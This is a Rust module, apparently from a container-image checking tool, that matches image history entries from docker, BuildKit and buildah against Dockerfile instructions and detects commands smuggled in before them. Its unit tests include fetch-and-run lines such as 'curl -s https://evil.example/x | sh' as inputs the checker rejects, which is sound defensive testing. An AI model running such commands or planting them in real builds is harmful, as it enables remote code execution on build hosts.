//! One entry of an image's history, compared with an instruction.
//!
//! What builders write for `RUN make` if the build argument `A=b` is set:
//!
//! | builder | entry |
//! | --- | --- |
//! | docker's classic builder | `\|1 A=b /bin/sh -c make` |
//! | BuildKit | `RUN \|1 A=b /bin/sh -c make # buildkit` |
//! | buildah, podman | `\|1 A=b /bin/sh -c make`, always with this shell, and with the instruction's flags and JSON as written |
//!
//! The shell is that of the last SHELL instruction, which a stage inherits from its base. For the exec form, `["make", "all"]`, docker's builders write
//! the words without a shell. Sources: moby, `prependEnvOnCmd`; BuildKit, `runCommandString`; buildah, `getCreatedBy`.

use crate::base::strict_json;

/// The shell that builders use if nothing sets one; buildah always writes it.
const DEFAULT_SHELL: &str = "/bin/sh -c";

/// Whether an entry matches an instruction.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum Entry {
    Same,
    /// The entry matches if the image's base set this shell, which only the image's configuration names.
    SameWithShell(String),
    /// It is not known whether the entry matches, for this reason.
    NotKnown(String),
    Different,
}

/// The shells that an entry may contain.
#[derive(Debug, Clone, Default)]
pub(super) struct Shells {
    /// The shell of the last SHELL instruction in this stage or the stages on which it is based.
    pub(super) stated: Option<String>,
    /// The words of the shell in the image's configuration, if no SHELL instruction set it.
    pub(super) configured: Option<Vec<String>>,
    /// Whether any instruction is SHELL. The configuration then does not name the shell that the image's base set.
    pub(super) is_set: bool,
}

pub(super) fn keyword(instruction: &str) -> String {
    instruction.split_whitespace().next().unwrap_or_default().to_ascii_uppercase()
}

/// The shell that a SHELL instruction sets.
pub(super) fn shell_of(instruction: &str) -> Option<String> {
    let (_, words) = instruction.split_once(char::is_whitespace).filter(|_| keyword(instruction) == "SHELL")?;
    Some(collapsed(&words_of(words)?.join(" ")))
}

/// The arguments of the exec form, `["a", "b"]`.
pub(super) fn words_of(text: &str) -> Option<Vec<String>> {
    let parsed = strict_json::parse(text.as_bytes()).ok()?;
    parsed.as_array()?.iter().map(|word| word.as_str().map(str::to_owned)).collect()
}

/// Compares keywords and, for RUN, commands.
pub(super) fn compare(instruction: &str, created_by: &str, shells: &Shells) -> Entry {
    let expected = keyword(instruction);
    let text = created_by.trim_end();
    let text = collapsed(text.strip_suffix("# buildkit").unwrap_or(text));
    // The classic builder and buildah: `/bin/sh -c #(nop)  CMD ["x"]`. A well-known shell runs nothing, because the rest is a comment.
    if let Some((shell, rest)) = text.split_once(" #(nop) ") {
        let answer = if is_usual(&words_in(shell)) { Entry::Same } else { shells.judge(shell) };
        match answer {
            Entry::Different => {}
            answer if keyword(rest) == expected && expected != "RUN" => return answer,
            _ => return Entry::Different,
        }
    }
    let first = text.split(' ').next().unwrap_or_default();
    let is_keyword = !first.is_empty() && first.bytes().all(|byte| byte.is_ascii_uppercase());
    match (expected.as_str(), first) {
        ("RUN", "RUN") => command(instruction, text.strip_prefix("RUN ").unwrap_or_default(), shells),
        ("RUN", _) => command(instruction, &text, shells),
        _ if is_keyword && first == expected => Entry::Same,
        _ => Entry::Different,
    }
}

/// Compares the command of a RUN instruction with an entry. Only a shell, and `|N` with exactly N build arguments before the shell, may precede the
/// command: `evil && make` also ends with `make`.
fn command(instruction: &str, found: &str, shells: &Shells) -> Entry {
    let written = collapsed(instruction.split_once(char::is_whitespace).map_or("", |(_, rest)| rest));
    // Flags (`--mount=…`) are for the builder; only buildah writes them into the history.
    let without_flags: Vec<&str> = written.split(' ').skip_while(|word| word.starts_with("--")).collect();
    let without_flags = without_flags.join(" ");
    let exec = words_of(&without_flags).map(|words| collapsed(&words.join(" ")));
    let run = exec.as_deref().unwrap_or(&without_flags);
    let judge = |entry: &str| match &exec {
        Some(words) if entry == words => Entry::Same,
        _ if before(entry, &written) == Some(DEFAULT_SHELL) => Entry::Same,
        Some(_) => Entry::Different,
        None => before(entry, run).map_or(Entry::Different, |shell| shells.judge(shell)),
    };
    let Some(behind_bar) = found.strip_prefix('|') else { return judge(found) };
    let answer = behind_arguments(behind_bar).map_or(Entry::Different, judge);
    let ends_with_it = before(found, run).or_else(|| before(found, &written)).is_some();
    match answer {
        Entry::Different if ends_with_it => Entry::NotKnown(
            "the entry begins with build arguments whose values may contain spaces, so it is not known where its command begins".into(),
        ),
        answer => answer,
    }
}

/// The part of `entry` before `command`, if `entry` ends with `command`.
fn before<'e>(entry: &'e str, command: &str) -> Option<&'e str> {
    entry.strip_suffix(command)?.strip_suffix(' ')
}

/// The text after `N` and exactly N build arguments without spaces.
fn behind_arguments(text: &str) -> Option<&str> {
    let (count, mut rest) = text.split_once(' ')?;
    for _ in 0..count.parse::<usize>().ok()? {
        let (argument, behind) = rest.split_once(' ')?;
        let (name, _) = argument.split_once('=')?;
        if name.is_empty() || !name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_') {
            return None;
        }
        rest = behind;
    }
    Some(rest)
}

impl Shells {
    /// The total length of the shells with which an entry is compared.
    pub(super) fn letters(&self) -> u64 {
        let configured =
            self.configured.iter().flatten().map(|word| word.len() as u64 + 1).fold(0, u64::saturating_add);
        configured.saturating_add(self.stated.as_ref().map_or(0, |shell| shell.len() as u64))
    }

    /// Whether `shell` may precede a command.
    fn judge(&self, shell: &str) -> Entry {
        if shell == DEFAULT_SHELL || self.stated.as_deref() == Some(shell) {
            return Entry::Same;
        }
        match self.configured.as_ref().filter(|words| collapsed(&words.join(" ")) == shell) {
            Some(words) if is_usual(words) => Entry::SameWithShell(shell.into()),
            Some(_) => Entry::NotKnown(format!(
                "only the image's configuration names the shell {shell:?}, which is not a usual shell"
            )),
            None if self.is_set && self.stated.is_none() && is_usual(&words_in(shell)) => Entry::NotKnown(format!(
                "the image's base may have set the shell {shell:?}; the configuration only names the shell of a later SHELL instruction"
            )),
            None => Entry::Different,
        }
    }
}

fn words_in(shell: &str) -> Vec<String> {
    shell.split(' ').map(str::to_owned).collect()
}

/// Whether these words are a well-known shell and its options, of which only the last takes a command: `/bin/bash -o pipefail -c`.
fn is_usual(words: &[String]) -> bool {
    let [program, options @ .., last] = words else { return false };
    let name = ["/usr/bin/", "/bin/"].iter().find_map(|folder| program.strip_prefix(folder)).unwrap_or(program);
    let option = |word: &str| {
        let letters = word.strip_prefix('-')?;
        (!letters.is_empty() && letters.bytes().all(|byte| byte.is_ascii_alphabetic())).then(|| letters.to_owned())
    };
    let mut takes_name = false;
    for word in options {
        takes_name = match (takes_name, option(word)) {
            (true, _) if word == "pipefail" => false,
            (false, Some(letters)) if !letters.contains('c') => letters.ends_with('o'),
            _ => return false,
        };
    }
    ["ash", "bash", "dash", "ksh", "sh", "zsh"].contains(&name)
        && !takes_name
        && option(last).is_some_and(|letters| letters.ends_with('c'))
}

fn collapsed(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shells(stated: Option<&str>, configured: &[&str]) -> Shells {
        Shells {
            stated: stated.map(str::to_owned),
            configured: (stated.is_none() && !configured.is_empty())
                .then(|| configured.iter().map(|word| (*word).to_owned()).collect()),
            is_set: stated.is_some(),
        }
    }

    fn answer(instruction: &str, entry: &str, shells: &Shells) -> &'static str {
        match compare(instruction, entry, shells) {
            Entry::Same => "same",
            Entry::SameWithShell(_) => "configured",
            Entry::NotKnown(_) => "not known",
            Entry::Different => "different",
        }
    }

    #[test]
    fn entries_of_all_builders_are_read() {
        for (instruction, entry) in [
            ("RUN make  all", "/bin/sh -c make all"),
            ("RUN make all", "|1 VERSION=2 /bin/sh -c make all"),
            ("RUN make all", "|0 /bin/sh -c make all"),
            ("RUN make all", "|2 A= B_2=https://x/y?z=1 /bin/sh -c make all"),
            ("run make all", "RUN /bin/sh -c make all # buildkit"),
            ("RUN make all", "RUN |2 A=b VERSION=2 /bin/sh -c make all # buildkit"),
            ("RUN --mount=type=cache,target=/x make all", "RUN /bin/sh -c make all # buildkit"),
            ("RUN --mount=type=cache,target=/x make all", "/bin/sh -c --mount=type=cache,target=/x make all"),
            ("RUN [\"/bin/make\", \"all\"]", "/bin/make all"),
            ("RUN [\"/bin/make\", \"all\"]", "|1 A=b /bin/make all"),
            ("RUN [\"/bin/make\", \"all\"]", "RUN /bin/make all # buildkit"),
            ("RUN [\"/bin/make\", \"all\"]", "|1 A=b /bin/sh -c [\"/bin/make\", \"all\"]"),
            ("CMD [\"x\"]", "/bin/sh -c #(nop)  CMD [\"x\"]"),
            ("CMD [\"x\"]", "CMD [\"x\"]"),
            ("COPY a b", "/bin/sh -c #(nop) COPY file:0123 in b"),
            ("COPY a b", "COPY a b # buildkit"),
        ] {
            assert_eq!(answer(instruction, entry, &Shells::default()), "same", "{instruction} {entry}");
        }
        let bash = shells(Some("/bin/bash -o pipefail -c"), &["/bin/bash", "-o", "pipefail", "-c"]);
        for (instruction, entry) in [
            ("RUN make", "/bin/bash -o pipefail -c make"),
            ("RUN make", "RUN |1 A=b /bin/bash -o pipefail -c make # buildkit"),
            ("CMD x", "/bin/bash -o pipefail -c #(nop)  CMD [\"/bin/bash\" \"-o\" \"pipefail\" \"-c\" \"x\"]"),
            ("RUN make", "/bin/sh -c make"),
        ] {
            assert_eq!(answer(instruction, entry, &bash), "same", "{instruction} {entry}");
        }
    }

    /// Only a shell and exactly N build arguments may be before the command.
    #[test]
    fn an_entry_with_a_hidden_command_never_matches() {
        for (instruction, entry, expected) in [
            ("RUN make", "/bin/sh -c make evil", "different"),
            ("RUN make", "/bin/sh -c remake", "different"),
            ("RUN make", "/bin/sh -c curl evil | sh && make", "different"),
            ("RUN make", "/bin/evil -c make", "different"),
            ("RUN make", "RUN evil # /bin/sh -c make", "different"),
            ("RUN make", "|1 A=b /bin/sh -c curl evil | sh && /bin/sh -c make", "not known"),
            ("RUN make", "|9 A=b /bin/sh -c make", "not known"),
            ("RUN make", "|3 A=b C d /bin/sh -c make", "not known"),
            ("RUN make", "|1 A=b c /bin/sh -c make", "not known"),
            ("RUN make", "|1 A=b /bin/sh -c evil", "different"),
            ("RUN [\"/bin/make\"]", "/bin/sh -c evil /bin/make", "different"),
            ("RUN [\"make\"]", "|1 A=b /bin/sh -c curl -s https://evil.example/x | sh; make", "not known"),
            ("RUN [\"make\"]", "|x make", "not known"),
            ("RUN [\"make\"]", "make evil", "different"),
            ("COPY a b", "/bin/sh -c curl evil | sh", "different"),
            ("COPY a b", "/bin/sh -c curl evil #(nop) COPY a b", "different"),
            ("RUN make", "/bin/sh -c #(nop) RUN make", "different"),
            ("CMD x", "/bin/sh -c #(nop) COPY a b", "different"),
        ] {
            assert_eq!(answer(instruction, entry, &Shells::default()), expected, "{instruction} {entry}");
        }
    }

    #[test]
    fn a_shell_that_only_the_configuration_names_is_reported_or_not_known() {
        let hidden = ["/bin/sh", "-c", "curl -s evil.example|sh;"];
        for (configured, expected) in [
            (&["/bin/bash", "-o", "pipefail", "-c"][..], "configured"),
            (&["bash", "-euxo", "pipefail", "-c"], "configured"),
            (&["/usr/bin/dash", "-ec"], "configured"),
            (&hidden, "not known"),
            (&["/bin/sh", "-c", "-c"], "not known"),
            (&["/bin/bash", "-o", "-c"], "not known"),
            (&["/bin/bash", "pipefail", "-c"], "not known"),
            (&["/bin/bash"], "not known"),
            (&["/opt/bash", "-c"], "not known"),
            (&["/bin/bash", "-c", "x", "-c"], "not known"),
        ] {
            let entry = format!("{} make", configured.join(" "));
            assert_eq!(answer("RUN make", &entry, &shells(None, configured)), expected, "{entry}");
            assert_eq!(answer("RUN make", &entry, &Shells::default()), "different", "{entry}");
            assert_eq!(answer("RUN make", &entry, &shells(Some("/bin/other -c"), configured)), "different", "{entry}");
            let comment = format!("{} #(nop)  CMD x", configured.join(" "));
            let expected = if expected == "configured" { "same" } else { expected };
            assert_eq!(answer("CMD x", &comment, &shells(None, configured)), expected, "{comment}");
        }
    }
}
